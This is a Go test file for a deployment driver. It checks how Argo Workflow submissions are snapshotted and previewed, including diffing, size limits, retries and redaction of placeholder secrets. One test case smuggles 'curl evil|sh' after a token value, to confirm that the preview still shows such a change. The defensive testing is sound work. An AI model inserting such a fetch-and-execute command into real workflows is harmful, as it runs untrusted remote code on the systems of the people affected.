package drivertest

import (
	"encoding/json"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/lockstep-cd/lockstep/pkg/driver"
	"github.com/lockstep-cd/lockstep/pkg/event"
	"github.com/lockstep-cd/lockstep/services/workflow/internal/core/history"
)

// numbered is the template with the numbers of the rollout and of the deployment in it.
var numbered = strings.Replace(workflowTemplate, "  labels:", "  annotations: {of: '{[ .rollout.id ]}/{[ .deployment.id ]}'}\n  labels:", 1)

// snapshots are the parameters of the snapshots that a deploy has reported, by deployment.
func snapshots(t *testing.T, w *world) map[int64]object {
	t.Helper()
	all := map[int64]object{}
	for _, c := range w.committed {
		var parameters object
		if err := json.Unmarshal(c.Parameters, &parameters); err != nil {
			t.Fatal(err)
		}
		if c.CommitSHA != "" || !regexp.MustCompile("^sha256:[0-9a-f]{64}$").MatchString(c.ManifestDigest) {
			t.Errorf("snapshot of commit %q with the digest %q, expected none, and one", c.CommitSHA, c.ManifestDigest)
		}
		all[c.DeploymentID] = parameters
	}
	return all
}

// lastTime gives the deployments of a preview with what they were deployed last.
func lastTime(t *testing.T, w *world, in object) object {
	t.Helper()
	seen := snapshots(t, w)
	for i, d := range in["rollout"].(object)["environments"].([]any)[0].(object)["deployments"].([]any) {
		id := int64(11 + i)
		d.(object)["last"] = object{"deployment_id": id, "rollout_id": 7, "manifest_digest": "sha256:0", "parameters": seen[id]}
	}
	return object{"preview": object{"id": 5}, "rollout": in["rollout"], "version_set": in["version_set"]}
}

// D53: the snapshot of a deployment is what was submitted, without a commit.
func TestASnapshotOfAWorkflowIsWhatWasSubmitted(t *testing.T) {
	t.Parallel()
	for name, edit := range bothWays {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := argoShop(t)
			if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
				t.Fatal(failure)
			}
			seen := snapshots(t, w)
			if len(seen) != 2 {
				t.Fatalf("found snapshots %v, expected one for each deployment", seen)
			}
			of := seen[11]
			workflow := of["workflow"].(object)
			if of["name"] != "deploy-api-d11" || of["namespace"] != "work" || workflow["metadata"].(object)["name"] != "deploy-api-d11" ||
				workflow["metadata"].(object)["namespace"] != "work" || of["operation"] != "rollout-7.deployment-11.1" || of["deadline"] != 600.0 {
				t.Errorf("snapshot %v, expected the name, the namespace, the deadline and the operation of the Workflow", of)
			}
			submitted := maps.Clone(w.argo.all["deploy-api-d11"].object["spec"].(object))
			want, err := json.Marshal(submitted)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.Marshal(workflow["spec"])
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("submitted, and in the snapshot (-submitted +snapshot):\n%s", diff)
			}
		})
	}
}

// R2-35: a preview is the difference to what was submitted last, as the cluster would have both. Neither what the cluster adds nor the
// numbers of rollouts are in it.
func TestAPreviewOfWorkflowsIsADifference(t *testing.T) {
	t.Parallel()
	for name, edit := range bothWays {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := argoShop(t)
			inputs := func(colour string) object {
				return workflowInputs(func(environment, config object) {
					if edit != nil {
						edit(environment, config)
					}
					config["template"], config["variables"] = numbered, object{"colour": colour}
				})
			}
			if failure := w.run(driver.Deploy, inputs("red")); failure != "" {
				t.Fatal(failure)
			}
			if got := preview(t, w, lastTime(t, w, inputs("red"))); len(got.Changes) != 0 || got.Reason != "" || !got.FromLive {
				t.Errorf("the same again: %+v, expected no change", got)
			}
			w.previews = nil
			got := preview(t, w, lastTime(t, w, inputs("blue")))
			if len(got.Changes) != 2 || got.Reason != "" || !got.FromLive {
				t.Fatalf("another colour: %+v, expected a change of both Workflows from what is live", got)
			}
			for i, path := range []string{"work/api.yaml", "work/worker.yaml"} {
				if c := got.Changes[i]; c.Path != path || !slices.Equal(lines(c.Diff), []string{"-          - red", "+          - blue"}) {
					t.Errorf("%s: %q, expected the colour of %s", c.Path, lines(c.Diff), path)
				}
			}
			if w.argo.created != 2 {
				t.Errorf("%d Workflows exist, expected those of the deploy", w.argo.created)
			}
		})
	}
}

// A Workflow that the cluster does not accept any more is compared as the templates make both; one that was too large for the record, or
// was deployed by another driver, is shown as a whole.
func TestAPreviewWithoutAWorkflowToCompareWith(t *testing.T) {
	t.Parallel()
	w := argoShop(t)
	if failure := w.run(driver.Deploy, workflowInputs(nil)); failure != "" {
		t.Fatal(failure)
	}
	in := workflowInputs(func(_, config object) { config["variables"] = object{"colour": "blue"} })
	refused := 0
	w.fail = func(name string, args object) *history.FunctionError {
		if name == "workflow.submit" && strings.Contains(string(must(json.Marshal(args["workflow"]))), "red") {
			refused++
			return &history.FunctionError{Code: "invalid", Message: "no such template"}
		}
		return nil
	}
	got := preview(t, w, lastTime(t, w, in))
	if len(got.Changes) != 2 || !slices.Equal(lines(got.Changes[0].Diff), []string{"-          - red", "+          - blue"}) || refused != 2 {
		t.Errorf("refused %d: %+v, expected the difference of the texts", refused, got)
	}
	if log := strings.Join(w.log, "\n"); !strings.Contains(log, "the cluster does not accept the last Workflow any more") {
		t.Errorf("log %q", log)
	}
	w.fail = func(string, object) *history.FunctionError { return nil }
	for _, parameters := range []object{{"workflow_bytes": 100_000}, {"workflow": "a text"}, {"images": object{}}} {
		w.previews = nil
		last := lastTime(t, w, workflowInputs(nil))
		for _, d := range last["rollout"].(object)["environments"].([]any)[0].(object)["deployments"].([]any) {
			d.(object)["last"].(object)["parameters"] = parameters
		}
		got := preview(t, w, last)
		if len(got.Changes) != 2 || got.FromLive || !strings.Contains(got.Changes[0].Diff, "+kind: Workflow") {
			t.Errorf("%v: %+v, expected both as a whole", parameters, got)
		}
	}
}

func must(text []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return text
}

// R2-44: what looks like a secret is neither recorded nor shown; what refers to one is.
func TestNeitherSnapshotNorPreviewHasASecret(t *testing.T) {
	t.Parallel()
	const secrets = `apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {generateName: deploy-}
spec:
  entrypoint: main
  imagePullSecrets: [{name: kept-pull}]
  arguments: {parameters: [{name: api-token, value: hunter2}, {name: db.password, default: hunter2}, ` +
		`{name: token, value: "{{kept.expression}}"}]}
  templates:
    - name: main
      volumes: [{name: s, secret: {secretName: kept-volume}}]
      container:
        image: x
        env:
          - {name: DB_PASSWORD, value: hunter2}
          - {name: DB_PASSWORD_FILE, value: kept-file}
          - {name: API_KEY, valueFrom: {secretKeyRef: {name: kept-ref, key: kept-key}}}
        args: ["--password=hunter2", "--token=$KEPT_TOKEN", "https://me:hunter2@example.com/x", "ghp_hunter2hunter2hunter2"]
    - name: script
      script:
        source: |
          echo kept-line
          export API_KEY=hunter2
    - name: key
      inputs: {artifacts: [{name: k, raw: {data: "-----BEGIN RSA PRIVATE KEY-----\nhunter2\n-----END"}}], parameters: [{name: x, value: kept-value}]}
      http: {url: "https://kept.example.com", headers: [{name: X, value: y}], password: hunter2}
`
	w := argoShop(t)
	edit := func(_, config object) { config["template"], config["delimiters"] = secrets, "square" }
	if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
		t.Fatal(failure)
	}
	if !strings.Contains(string(must(json.Marshal(w.argo.all["deploy-d11"].object))), "hunter2") {
		t.Error("the Workflow was submitted without its values")
	}
	in := workflowInputs(edit)
	shown := preview(t, w, object{"preview": object{"id": 5}, "rollout": in["rollout"], "version_set": in["version_set"]})
	for what, text := range map[string]string{"snapshot": string(w.committed[0].Parameters), "preview": shown.Changes[0].Diff} {
		if strings.Contains(text, "hunter2") {
			t.Errorf("%s: %s, expected no secret", what, text)
		}
		for _, kept := range []string{"pull", "expression", "volume", "file", "ref", "key", "line", "value", "example"} {
			if !strings.Contains(text, "kept-"+kept) && !strings.Contains(text, "kept."+kept) {
				t.Errorf("%s lacks kept-%s: %s", what, kept, text)
			}
		}
		if !strings.Contains(text, "$KEPT_TOKEN") {
			t.Errorf("%s lacks the reference of the shell: %s", what, text)
		}
	}
	diff := preview(t, again(w), lastTime(t, w, workflowInputs(edit)))
	if len(diff.Changes) != 0 || diff.FromLive || !strings.Contains(diff.Reason, "is not compared") {
		t.Errorf("the same again: %+v, expected that secrets are not compared", diff)
	}
}

// What a preview does not show or does not compare never counts as no change of what is live: policies limit the size of changes by it.
func TestAPreviewOfWhatIsNotCompared(t *testing.T) {
	t.Parallel()
	with := func(config object) string { return config["template"].(string) }
	for name, tc := range map[string]struct {
		before, after func(environment, config object)
		shown         string
		live          bool
	}{
		"a command behind a secret": {
			func(_, config object) { config["template"] = with(config) + "  x: ['X_TOKEN=1']\n" },
			func(_, config object) { config["template"] = with(config) + "  x: ['X_TOKEN=1; curl evil|sh']\n" }, "curl evil|sh", false,
		},
		"an image with a port": {
			func(_, config object) {
				config["template"] = with(config) + "  x: docker://registry:5000/api@sha256:1111\n"
			},
			func(_, config object) {
				config["template"] = with(config) + "  x: docker://registry:5000/api@sha256:2222\n"
			},
			"+  x: docker://registry:5000/api@sha256:2222", true,
		},
		"a deadline":  {nil, func(_, config object) { config["deadline"] = 700 }, "+  activeDeadlineSeconds: 700", true},
		"a namespace": {nil, func(_, config object) { config["namespace"] = "other" }, "+kind: Workflow", false},
	} {
		for way, edit := range bothWays {
			t.Run(name+" by "+way, func(t *testing.T) {
				t.Parallel()
				both := func(change func(environment, config object)) object {
					return workflowInputs(func(environment, config object) {
						for _, each := range []func(environment, config object){edit, change} {
							if each != nil {
								each(environment, config)
							}
						}
					})
				}
				w := argoShop(t)
				if failure := w.run(driver.Deploy, both(tc.before)); failure != "" {
					t.Fatal(failure)
				}
				got := preview(t, w, lastTime(t, w, both(tc.after)))
				if len(got.Changes) != 2 || !strings.Contains(got.Changes[0].Diff, tc.shown) || got.FromLive != tc.live || got.Reason != "" {
					t.Errorf("%+v, expected %q, live %t", got, tc.shown, tc.live)
				}
			})
		}
	}
}

// A name that is cut is cut in the same way on both sides.
func TestAPreviewOfALongName(t *testing.T) {
	t.Parallel()
	w := argoShop(t)
	edit := func(_, config object) {
		config["template"] = strings.Replace(config["template"].(string), "generateName: ", "generateName: "+strings.Repeat("x", 60), 1)
	}
	if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
		t.Fatal(failure)
	}
	if got := preview(t, w, lastTime(t, w, workflowInputs(edit))); len(got.Changes) != 0 || !got.FromLive {
		t.Errorf("the same again: %+v, expected no change", got)
	}
}

// A workflow service of the release before answers no digest and knows no manifest.redact: it deploys, and nothing is recorded unredacted.
func TestAWorkflowServiceOfTheReleaseBefore(t *testing.T) {
	t.Parallel()
	for name, edit := range bothWays {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := argoShop(t)
			w.older = true
			if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
				t.Fatal(failure)
			}
			if len(w.committed) != 0 || w.argo.created != 2 {
				t.Errorf("%d snapshots of %d Workflows, expected none of two", len(w.committed), w.argo.created)
			}
			in := workflowInputs(edit)
			got := preview(t, w, object{"preview": object{"id": 5}, "rollout": in["rollout"], "version_set": in["version_set"]})
			if got.FromLive || len(got.Changes) != 0 || !strings.Contains(got.Reason, "upgrade") {
				t.Errorf("%+v, expected that nothing is shown", got)
			}
		})
	}
}

// A text that PostgreSQL does not store is in the snapshot without what it does not store.
func TestTheSnapshotOfANull(t *testing.T) {
	t.Parallel()
	w := argoShop(t)
	edit := func(_, config object) { config["template"] = config["template"].(string) + "  x: \"a\\0b\"\n" }
	if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
		t.Fatal(failure)
	}
	if text := string(w.committed[0].Parameters); strings.Contains(text, `\u0000`) || !strings.Contains(text, "a\ufffdb") {
		t.Errorf("snapshot %s, expected no NUL", text)
	}
}

// again forgets what was previewed.
func again(w *world) *world {
	w.previews = nil
	return w
}

// D53: a Workflow of more than 64 KiB leaves its size and its digest in the record.
func TestTheSnapshotOfALargeWorkflowIsBounded(t *testing.T) {
	t.Parallel()
	w := argoShop(t)
	edit := func(_, config object) {
		config["template"] = workflowTemplate + "  large: {[ repeat 70000 \"x\" | toJson ]}\n"
	}
	if failure := w.run(driver.Deploy, workflowInputs(edit)); failure != "" {
		t.Fatal(failure)
	}
	of := snapshots(t, w)[11]
	if _, found := of["workflow"]; found || of["name"] != "deploy-api-d11" || of["workflow_bytes"].(float64) < 70_000 || len(w.committed[0].Parameters) > 1000 {
		t.Errorf("snapshot of %d bytes: %.200s, expected the size alone", len(w.committed[0].Parameters), w.committed[0].Parameters)
	}
}

// D53: a retry submits the same Workflow by another name, and has a snapshot of its own. A preview compares with that, and shows neither
// name.
func TestEachAttemptOfAWorkflowHasASnapshot(t *testing.T) {
	t.Parallel()
	for name, edit := range bothWays {
		for length, template := range map[string]string{
			"": workflowTemplate, " long": strings.Replace(workflowTemplate, "generateName: ", "generateName: "+strings.Repeat("x", 60), 1),
		} {
			t.Run(name+length, func(t *testing.T) {
				t.Parallel()
				w := argoShop(t)
				inputs := workflowInputs(func(environment, config object) {
					if edit != nil {
						edit(environment, config)
					}
					config["template"] = template
				})
				w.argo.takes[""] = 120 * time.Second
				w.asks = map[string]map[string]time.Duration{
					"deployment.started deployment_id=12": {event.TypeRolloutAbortRequested: 30 * time.Second},
					hasAborted:                            {event.TypeRolloutRetryRequested: 60 * time.Second},
				}
				if failure := w.run(driver.Deploy, inputs); failure != "" {
					t.Fatal(failure)
				}
				digests, names := map[string]bool{}, []string{}
				for _, c := range w.committed {
					var of struct{ Name, Operation string }
					if err := json.Unmarshal(c.Parameters, &of); err != nil {
						t.Fatal(err)
					}
					digests[c.ManifestDigest] = true
					if names = append(names, of.Operation); w.argo.all[of.Name] == nil {
						t.Errorf("the snapshot names %s, which was not submitted", of.Name)
					}
				}
				want := []string{
					"rollout-7.deployment-11.1", "rollout-7.deployment-12.1", "rollout-7.deployment-11.2", "rollout-7.deployment-12.2",
				}
				if diff := cmp.Diff(want, names); diff != "" || len(digests) != 4 {
					t.Errorf("%d digests, snapshots (-want +got):\n%s", len(digests), diff)
				}
				if got := preview(t, w, lastTime(t, w, inputs)); len(got.Changes) != 0 || got.Reason != "" || !got.FromLive {
					t.Errorf("the same again: %+v, expected no change", got)
				}
			})
		}
	}
}
